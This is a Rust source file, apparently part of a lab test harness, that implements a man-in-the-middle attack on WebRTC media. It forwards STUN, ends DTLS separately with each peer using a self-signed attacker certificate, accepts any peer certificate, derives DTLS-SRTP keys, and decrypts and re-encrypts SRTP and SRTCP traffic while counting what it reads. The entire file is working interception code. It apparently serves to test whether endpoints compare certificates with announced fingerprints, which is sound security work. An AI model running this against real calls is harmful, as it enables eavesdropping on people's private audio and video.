//! The man in the middle of the media: forwards STUN, ends DTLS twice with certificates of his own, reads what he can.
//!
//! ```text
//!   a ══DTLS 1══▶ impostor of b │ man in the middle │ impostor of a ◀══DTLS 2══ b
//!   a ──SRTP 1──▶ open with keys 1 ──▶ clear ──▶ seal with keys 2 ──SRTP──▶ b
//! ```
//!
//! Works against everybody who does not compare the peer's certificate with the announced fingerprint. First bytes as in
//! RFC 7983. TCP (the trunk) passes untouched: there he has nothing to offer.

use super::lab::{End, Lab};
use super::packet::Datagram;
use super::router::{OnPath, Router};
use super::srtp::Srtp;
use openssl::asn1::Asn1Time;
use openssl::bn::BigNum;
use openssl::ec::{EcGroup, EcKey};
use openssl::hash::MessageDigest;
use openssl::nid::Nid;
use openssl::pkey::PKey;
use openssl::ssl::{Ssl, SslContext, SslMethod, SslOptions, SslStream, SslVerifyMode};
use openssl::x509::{X509, X509NameBuilder};
use std::collections::{HashMap, VecDeque};
use std::io::{self, ErrorKind, Read, Write};
use std::net::SocketAddr;
use std::sync::{Arc, Mutex};

/// The attack, running until dropped.
pub struct Mitm {
    counts: Arc<Mutex<Counts>>,
    pub router: Router,
}

/// What the attacker achieved. Indexed by [`End`] where there are two.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct Counts {
    /// STUN packets passed on.
    pub stun_forwarded: u64,
    /// DTLS associations begun (a new ClientHello).
    pub associations: u64,
    /// Handshakes completed with this end.
    pub handshakes: [u64; 2],
    /// SRTP packets that came from this end.
    pub media_seen: [u64; 2],
    /// Of those, decrypted (authentic under a key the attacker holds).
    pub media_decrypted: [u64; 2],
    /// SRTCP packets that came from this end.
    pub control_seen: [u64; 2],
    /// Of those, decrypted.
    pub control_decrypted: [u64; 2],
}

/// Begins the attack on a routed lab: on UDP between these ports (any, when empty), both IPv4 and IPv6.
pub fn attack(lab: &Lab, ports: &[u16]) -> Mitm {
    let counts = Arc::new(Mutex::new(Counts::default()));
    let attacker = Attacker {
        ports: ports.to_vec(),
        context: attacker_context(),
        associations: HashMap::new(),
        counts: counts.clone(),
    };
    Mitm { router: Router::with_hook(lab, 1, attacker), counts }
}

impl Mitm {
    pub fn counts(&self) -> Counts {
        *self.counts.lock().unwrap()
    }
}

struct Attacker {
    ports: Vec<u16>,
    context: SslContext,
    /// By the ports of a and b: a session has one pair of ports, whatever addresses ICE chooses.
    associations: HashMap<(u16, u16), Association>,
    counts: Arc<Mutex<Counts>>,
}

/// Both halves of one broken DTLS association.
struct Association {
    client_random: Vec<u8>,
    /// Toward a, toward b.
    impostors: [Impostor; 2],
}

impl OnPath for Attacker {
    fn packet(&mut self, toward: End, packet: Vec<u8>, out: &mut Vec<(End, Vec<u8>)>) {
        let datagram = Datagram::read(&packet).filter(|datagram| self.is_target(datagram));
        match datagram.as_ref().and_then(|datagram| Some((datagram, datagram.payload.first()?))) {
            Some((datagram, 20..=63)) => self.handshake(toward, datagram, out),
            Some((datagram, 128..=191)) => self.media(toward, datagram, out),
            Some((_, 0..=3)) => {
                self.counts.lock().unwrap().stun_forwarded += 1;
                out.push((toward, packet));
            }
            Some(_) | None => out.push((toward, packet)),
        }
    }

    /// Lets the impostors send again what was lost.
    fn tick(&mut self, out: &mut Vec<(End, Vec<u8>)>) {
        let mut counts = self.counts.lock().unwrap();
        for association in self.associations.values_mut() {
            association.turn(&mut counts, out);
        }
    }
}

impl Attacker {
    fn is_target(&self, datagram: &Datagram) -> bool {
        let listed = |port: u16| self.ports.is_empty() || self.ports.contains(&port);
        listed(datagram.from.port()) && listed(datagram.to.port())
    }

    fn handshake(&mut self, toward: End, datagram: &Datagram, out: &mut Vec<(End, Vec<u8>)>) {
        let (key, from) = (ports(toward, datagram), toward.other());
        let mut counts = self.counts.lock().unwrap();
        if let Some(random) = client_random(&datagram.payload) {
            let known = self.associations.get(&key).is_some_and(|known| known.client_random == random);
            if !known {
                counts.associations += 1;
                let impostors = End::BOTH.map(|end| match end == from {
                    true => Impostor::new(&self.context, Role::Server, datagram.to, datagram.from),
                    false => Impostor::new(&self.context, Role::Client, datagram.from, datagram.to),
                });
                self.associations.insert(key, Association { client_random: random.to_vec(), impostors });
            }
        }
        if let Some(association) = self.associations.get_mut(&key) {
            let [near, far] = association.pair(from);
            near.wire().received.push_back(datagram.payload.clone());
            // Speak on the path that was used last.
            (near.us, near.end_address) = (datagram.to, datagram.from);
            (far.us, far.end_address) = (datagram.from, datagram.to);
            association.turn(&mut counts, out);
        }
    }

    fn media(&mut self, toward: End, datagram: &Datagram, out: &mut Vec<(End, Vec<u8>)>) {
        let from = toward.other();
        let mut counts = self.counts.lock().unwrap();
        let control = datagram.payload.get(1).is_some_and(|kind| (64..=95).contains(&(kind & 0x7f)));
        let counts = &mut *counts;
        let (seen, decrypted) = match control {
            true => (&mut counts.control_seen, &mut counts.control_decrypted),
            false => (&mut counts.media_seen, &mut counts.media_decrypted),
        };
        seen[from as usize] += 1;
        let Some(association) = self.associations.get_mut(&ports(toward, datagram)) else {
            // Begun before he came: nothing to gain, and a cut would give him away.
            out.push((toward, datagram.write()));
            return;
        };
        let [near, far] = association.pair(from);
        let Some(open) = near.keys.as_mut().map(|keys| &mut keys.from_end) else { return };
        let seal = far.keys.as_ref().map(|keys| &keys.to_end);
        let sealed = match control {
            true => open.open_control(&datagram.payload).map(|(clear, index)| seal?.seal_control(&clear, index)),
            false => open.open_media(&datagram.payload).map(|(clear, index)| seal?.seal_media(&clear, index)),
        };
        if let Some(sealed) = sealed {
            decrypted[from as usize] += 1;
            if let Some(payload) = sealed {
                out.push((toward, Datagram { payload, ..*datagram }.write()));
            }
        }
    }
}

impl Association {
    /// The impostor that speaks with `end`, and the other one.
    fn pair(&mut self, end: End) -> [&mut Impostor; 2] {
        let [a, b] = &mut self.impostors;
        match end {
            End::A => [a, b],
            End::B => [b, a],
        }
    }

    /// Drives both handshakes as far as they go and sends what they have to say.
    fn turn(&mut self, counts: &mut Counts, out: &mut Vec<(End, Vec<u8>)>) {
        for end in End::BOTH {
            let impostor = &mut self.impostors[end as usize];
            if impostor.drive() == Progress::JustFinished {
                counts.handshakes[end as usize] += 1;
            }
            let (from, to) = (impostor.us, impostor.end_address);
            let sent = impostor.wire().sent.drain(..);
            out.extend(sent.map(|payload| (end, Datagram { from, to, payload }.write())));
        }
    }
}

/// One DTLS endpoint of the attacker, speaking with one end in the other end's name.
struct Impostor {
    stream: SslStream<Wire>,
    role: Role,
    /// The other end's address, which the impostor uses as his own.
    us: SocketAddr,
    end_address: SocketAddr,
    keys: Option<MediaKeys>,
}

struct MediaKeys {
    from_end: Srtp,
    to_end: Srtp,
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Role {
    Client,
    Server,
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Progress {
    Ongoing,
    JustFinished,
}

impl Impostor {
    fn new(context: &SslContext, role: Role, us: SocketAddr, end_address: SocketAddr) -> Self {
        let mut ssl = Ssl::new(context).unwrap();
        ssl.set_mtu(1200).unwrap();
        match role {
            Role::Client => ssl.set_connect_state(),
            Role::Server => ssl.set_accept_state(),
        }
        let stream = SslStream::new(ssl, Wire::default()).unwrap();
        Self { stream, role, us, end_address, keys: None }
    }

    fn wire(&mut self) -> &mut Wire {
        self.stream.get_mut()
    }

    /// OpenSSL sends again by itself when it is asked to go on after its timer.
    fn drive(&mut self) -> Progress {
        if self.keys.is_some() {
            let mut ignored = [0; 2048];
            while self.stream.ssl_read(&mut ignored).is_ok_and(|size| size > 0) {}
            return Progress::Ongoing;
        }
        if self.stream.do_handshake().is_err() {
            return Progress::Ongoing;
        }
        let profile = self.stream.ssl().selected_srtp_profile().map(|profile| profile.name().to_owned());
        assert_eq!(profile.as_deref(), Some(PROFILE), "the end negotiates the profile the attacker offers");
        // RFC 5764, 4.2: client key, server key, client salt, server salt.
        let mut material = [0; 60];
        self.stream.ssl().export_keying_material(&mut material, "EXTRACTOR-dtls_srtp", None).unwrap();
        let client = Srtp::new(&material[..16], &material[32..46]);
        let server = Srtp::new(&material[16..32], &material[46..]);
        self.keys = Some(match self.role {
            Role::Client => MediaKeys { from_end: server, to_end: client },
            Role::Server => MediaKeys { from_end: client, to_end: server },
        });
        Progress::JustFinished
    }
}

/// Datagrams in memory instead of a socket.
#[derive(Default, Debug)]
struct Wire {
    received: VecDeque<Vec<u8>>,
    sent: Vec<Vec<u8>>,
}

impl Read for Wire {
    fn read(&mut self, buffer: &mut [u8]) -> io::Result<usize> {
        let datagram = self.received.pop_front().ok_or(ErrorKind::WouldBlock)?;
        let size = datagram.len().min(buffer.len());
        buffer[..size].copy_from_slice(&datagram[..size]);
        Ok(size)
    }
}

impl Write for Wire {
    fn write(&mut self, datagram: &[u8]) -> io::Result<usize> {
        self.sent.push(datagram.to_vec());
        Ok(datagram.len())
    }

    fn flush(&mut self) -> io::Result<()> {
        Ok(())
    }
}

/// The random number of a ClientHello, by which a new association is known. It is in the first fragment: record header
/// 13 bytes, handshake header 12 (with the fragment's offset), version 2 (RFC 6347); GStreamer cuts its hello into two.
fn client_random(payload: &[u8]) -> Option<&[u8]> {
    let in_the_clear = payload.first() == Some(&HANDSHAKE) && payload.get(3..5) == Some(&[0, 0]);
    let first_of_hello = payload.get(13) == Some(&CLIENT_HELLO) && payload.get(19..22) == Some(&[0, 0, 0]);
    if in_the_clear && first_of_hello { payload.get(27..59) } else { None }
}

fn ports(toward: End, datagram: &Datagram) -> (u16, u16) {
    let (from, to) = (datagram.from.port(), datagram.to.port());
    match toward {
        End::A => (to, from),
        End::B => (from, to),
    }
}

/// A self-signed certificate of his own; everybody else's is welcome.
fn attacker_context() -> SslContext {
    let group = EcGroup::from_curve_name(Nid::X9_62_PRIME256V1).unwrap();
    let key = PKey::from_ec_key(EcKey::generate(&group).unwrap()).unwrap();
    let mut name = X509NameBuilder::new().unwrap();
    name.append_entry_by_text("CN", "man in the middle").unwrap();
    let name = name.build();
    let mut certificate = X509::builder().unwrap();
    certificate.set_version(2).unwrap();
    certificate.set_serial_number(&BigNum::from_u32(1).unwrap().to_asn1_integer().unwrap()).unwrap();
    certificate.set_subject_name(&name).unwrap();
    certificate.set_issuer_name(&name).unwrap();
    certificate.set_pubkey(&key).unwrap();
    certificate.set_not_before(&Asn1Time::days_from_now(0).unwrap()).unwrap();
    certificate.set_not_after(&Asn1Time::days_from_now(365).unwrap()).unwrap();
    certificate.sign(&key, MessageDigest::sha256()).unwrap();
    let mut context = SslContext::builder(SslMethod::dtls()).unwrap();
    context.set_certificate(&certificate.build()).unwrap();
    context.set_private_key(&key).unwrap();
    context.set_options(SslOptions::NO_QUERY_MTU);
    context.set_verify_callback(SslVerifyMode::PEER, |_, _| true);
    context.set_tlsext_use_srtp(PROFILE).unwrap();
    context.build()
}

const HANDSHAKE: u8 = 22;
const CLIENT_HELLO: u8 = 1;
/// The profile every WebRTC end offers (RFC 8827 demands it), so the attacker needs no other.
const PROFILE: &str = "SRTP_AES128_CM_SHA1_80";
